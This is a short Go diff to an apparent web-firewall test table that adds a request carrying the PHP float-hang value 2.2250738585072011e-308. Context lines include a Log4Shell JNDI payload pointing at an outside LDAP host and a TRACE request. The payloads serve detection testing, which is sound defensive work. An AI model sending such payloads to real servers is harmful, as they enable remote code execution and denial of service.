@@ -210,5 +210,6 @@ var attacks = []struct {
 	{"log4shell", func() *http.Request {
 		return with(browser("GET", "/", "", ""), "X-Api-Version", "${jndi:ldap://198.51.100.1/a}")
 	}, "attack-rce"},
+	{"number that hangs php", func() *http.Request { return browser("GET", "/?i=2.2250738585072011e-308", "", "") }, "attack-sqli"},
 	{"method of no api", func() *http.Request { return browser("TRACE", "/", "", "") }, "attack-generic"},
 }
